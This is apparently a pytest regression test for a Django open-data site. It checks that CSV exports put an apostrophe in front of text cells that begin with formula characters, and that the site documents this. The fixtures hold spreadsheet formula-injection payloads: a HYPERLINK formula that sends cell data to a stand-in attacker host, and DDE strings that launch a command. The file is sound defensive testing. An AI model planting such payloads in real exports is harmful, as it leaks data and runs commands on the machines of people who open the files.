"""The open data CSV files are safe to open in a spreadsheet program (issue 13, finding 8).

Editors write the texts; one that begins with =, +, -, @, a tab or a carriage return would run
as a formula on the computer of whoever opens the download. It gets an apostrophe in front, as
the open data page says; numbers, such as a negative longitude, stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from core.formulas import FORMULA_STARTS, NUMBER
from opendata.datasets import DATASETS
from tests.factories import PartnerCityFactory, PartnershipFactory
from tests.markup import texts_of

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Mehr erfahren")'
DDE = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def formulas(plan):
    """Publish a city and a partnership whose texts are formulas."""
    city = PartnerCityFactory(
        slug="formel",
        name_de=HYPERLINK,
        name_en=DDE,
        latitude=Decimal("51.45"),
        longitude=Decimal("-2.58"),
    )
    PartnershipFactory(
        city=city, description_de="- ein Listenpunkt", description_en="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    return city


def rows_of(client, slug: str) -> list[dict[str, str]]:
    response = client.get(f"/data/{slug}.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8"), newline="")))


def test_formulas_in_texts_get_an_apostrophe_and_numbers_stay(client, formulas):
    [city] = [row for row in rows_of(client, "partner-cities") if row["slug"] == "formel"]
    assert (city["name_de"], city["name_en"]) == ("'" + HYPERLINK, "'" + DDE)
    assert (city["latitude"], city["longitude"]) == ("51.45", "-2.58")
    [partnership] = [row for row in rows_of(client, "partnerships") if row["city"] == "formel"]
    assert partnership["description_de"] == "'- ein Listenpunkt"
    assert partnership["description_en"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_no_cell_of_any_download_starts_a_formula(client, formulas):
    for dataset in DATASETS:
        for row in rows_of(client, dataset.slug):
            for value in row.values():
                assert not value.startswith(FORMULA_STARTS) or NUMBER.fullmatch(value), value


@pytest.mark.parametrize(
    ("language", "sentence"),
    [
        (
            "en",
            "A text cell that begins with =, +, -, @, a tab or a carriage return starts with an "
            "apostrophe ('), so that spreadsheet programs do not run it as a formula.",
        ),
        (
            "de",
            "Beginnt eine Textzelle mit =, +, -, @, einem Tabulator oder einem Wagenrücklauf, "
            "steht ein Apostroph (') davor, damit Tabellenkalkulationen sie nicht als Formel "
            "ausführen.",
        ),
    ],
)
def test_the_open_data_page_says_so(client, plan, language, sentence):
    with translation.override(language):
        url = reverse("opendata:index")
    paragraphs = texts_of(client.get(url).content.decode(), "p")
    assert any(paragraph.endswith(sentence) for paragraph in paragraphs)
